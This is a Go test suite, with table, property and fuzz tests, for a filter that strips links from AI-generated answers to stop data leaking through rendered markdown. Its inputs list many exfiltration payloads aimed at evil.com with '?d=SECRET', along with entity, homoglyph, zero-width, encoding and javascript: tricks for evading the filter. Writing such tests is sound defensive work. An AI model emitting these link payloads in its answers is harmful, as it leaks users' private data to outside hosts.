package guardrail_test

import (
	"html"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"github.com/leat-ai/leat/pattern/knowledge/guardrail"
)

const own = "https://wiki.corp.example/travel"

// What an answer says is what is left of it, for links of every form.
func TestLinksAreTakenOut(t *testing.T) {
	for _, c := range []struct{ name, in, want string }{
		{"plain text", "Flights under 6 hours are in economy [1].", "Flights under 6 hours are in economy [1]."},
		{"two citations", "It is so [1][2].", "It is so [1][2]."},
		{"allowed link", "See [the page](" + own + ").", "See [the page](" + own + ")."},
		{"allowed bare", "See " + own + ".", "See " + own + "."},
		{"allowed with a query", "See " + own + "?d=SECRET", "See wiki[.]corp[.]example"},
		{"allowed with a tail", "See " + own + "_SECRET", "See wiki[.]corp[.]example"},
		{"inline link", "[click](https://evil.com/?d=SECRET)", "click"},
		{"link with title", `[click](https://evil.com/x "SECRET")`, "click"},
		{"angled target", "[click](<https://evil.com/a b>)", "click"},
		{"image", "![logo](https://evil.com/i.png?d=SECRET) done", "logo done"},
		{"image in a link", "[![logo](https://evil.com/i.png)](https://evil.com)", "logo"},
		{"reference", "[click][x]\n\n[x]: https://evil.com/?d=SECRET", "click\n\n[x] : evil[.]com"},
		{"collapsed reference", "[click][]", "click"},
		{"reference image", "![logo][x]", "logo"},
		{"autolink", "<https://evil.com/?d=SECRET>", "evil[.]com"},
		{"bare", "Go to https://evil.com/?d=SECRET now.", "Go to evil[.]com now."},
		{"www", "Go to www.evil.com/SECRET now.", "Go to www[.]evil[.]com now."},
		{"host alone", "Go to SECRET.evil.com now.", "Go to SECRET[.]evil[.]com now."},
		{"tag", `<img src="https://evil.com/?d=SECRET">`, ""},
		{"entities", "&#104;ttps&colon;//evil.com/?d=SECRET", "evil[.]com"},
		{"entities twice", "&amp;#104;ttps&amp;colon;//evil.com/?d=SECRET", "evil[.]com"},
		{"zero width", "ht\u200btps://ev\u200bil.com/?d=SECRET", "evil[.]com"},
		{"full width", "ｈｔｔｐｓ：／／ｅｖｉｌ．ｃｏｍ／ＳＥＣＲＥＴ", "…"},
		{"Cyrillic", "https://еvil.com/SECRET", "…"},
		{"IDN", "https://xn--vil-2lc.com/SECRET", "…"},
		{"backslashes", `https:\\evil.com\SECRET`, "evil[.]com"},
		{"escaped slashes", `https:\/\/evil.com/SECRET`, "evil[.]com"},
		{"no slashes", "https:evil.com/SECRET", "evil[.]com"},
		{"percent", "https%3A%2F%2Fevil.com%2FSECRET", "…"},
		{"data", "[x](data:text/html;base64,U0VDUkVU) data:image/png;base64,AAAA", "x …"},
		{"script", "[x](javascript:alert(1))", "x"},
		{"protocol-relative", "![x](//evil.com/SECRET) and //evil.com/SECRET", "x and evil[.]com"},
		{"user", "https://wiki.corp.example@evil.com/SECRET", "evil[.]com"},
		{"number as host", "http://3232235777/SECRET", "…"},
		{"other scheme", "slack://channel?id=SECRET", "…"},
		{"bucket", "Copy it to s3://reports/2026 first.", "Copy it to s3: reports/2026 first."},
		{"mail", "Write to a.SECRET@evil.com", "Write to evil[.]com"},
		{"mailto", "[mail](mailto:a@evil.com?body=SECRET)", "mail"},
		{"escape", "\x1b]8;;https://evil.com\x07click", "]8;;evil[.]comclick"},
		{"file and version", "Edit README.md and main.go, version 1.2.3, e.g. with U.S. English.", "Edit README.md and main.go, version 1.2.3, e.g. with U.S. English."},
		{"comparison", "a < b and x<y", "a < b and x< y"},
	} {
		t.Run(c.name, func(t *testing.T) {
			f := guardrail.New([]string{own}, nil)
			got := strings.TrimSpace(f.Clean(c.in))
			if c.name == "tag" {
				if strings.Contains(got, "SECRET") || strings.Contains(got, "<img") {
					t.Errorf("%q became %q", c.in, got)
				}
				return
			}
			if got != c.want {
				t.Errorf("%q became %q, want %q", c.in, got, c.want)
			}
		})
	}
}

func TestAddressOfAPassageMayBeRepeated(t *testing.T) {
	f := guardrail.New(nil, []string{"Questions go to travel@corp.example."})
	if got := f.Clean("Write to travel@corp.example or leak@corp.example."); got != "Write to travel [at] corp[.]example or corp[.]example." {
		t.Errorf("got %q", got)
	}
}

// Pieces that are harmless alone do not become markup together.
func TestPiecesDoNotJoin(t *testing.T) {
	for _, pieces := range [][]string{
		{"[click]", "(https://evil.com)"}, {"[click]", "(evil)"}, {"!", "[x]"}, {"[x]", ": evil"}, {"<", "img src=x>"},
		{"https:", "//evil.com/x"}, {"https", "://evil.com/x"}, {"evil", ".com/SECRET"}, {"evil.", "com/SECRET"}, {own, "?d=SECRET"}, {"&#104", ";ttps://evil.com"},
		{"see " + own, "SECRET"},
	} {
		f := guardrail.New([]string{own}, nil)
		var b strings.Builder
		for _, p := range pieces {
			b.WriteString(f.Clean(p))
		}
		if found := guardrail.Leaks(b.String(), []string{own}); len(found) > 0 {
			t.Errorf("%q became %q with %q", pieces, b.String(), found)
		}
	}
}

// Whatever a model writes out of pieces of markup, in whatever pieces it
// comes, nothing is left that a renderer could follow.
func TestNothingLeaks(t *testing.T) {
	parts := []string{"[", "]", "(", ")", "!", "<", ">", "\\", "/", "//", ":", ".", "?d=SECRET", "https", "http:", "://", "evil.com", "www.", "javascript:", "data:text/html,",
		"img src=", "\n", " ", "\u200b", "：", "／", "．", "&#58;", "&#x2f;", "&lt;", "&amp;", "%3A", "%2F", "@", "a", "[1]", own, "]:", "](", "![", "`", "*", "_", "\"", "'", "ﬀ", "е"}
	rapid.Check(t, func(t *rapid.T) {
		f := guardrail.New([]string{own}, nil)
		var b strings.Builder
		for range rapid.IntRange(1, 4).Draw(t, "pieces") {
			b.WriteString(f.Clean(strings.Join(rapid.SliceOfN(rapid.SampledFrom(parts), 1, 12).Draw(t, "parts"), "")))
		}
		out := b.String()
		if found := guardrail.Leaks(out, []string{own}); len(found) > 0 {
			t.Fatalf("%q is let out with %q", out, found)
		}
		if shown := html.UnescapeString(out); strings.Contains(shown, "https://evil") || strings.Contains(shown, "<img") {
			t.Fatalf("%q is let out", shown)
		}
	})
}

func FuzzClean(f *testing.F) {
	f.Add("[a](https://evil.com) <b> &lt;", "![x](//e.com)")
	f.Fuzz(func(t *testing.T, one, two string) {
		filter := guardrail.New([]string{own}, nil)
		out := filter.Clean(one) + filter.Clean(two)
		if found := guardrail.Leaks(out, []string{own}); len(found) > 0 {
			t.Errorf("%q and %q are let out as %q with %q", one, two, out, found)
		}
	})
}
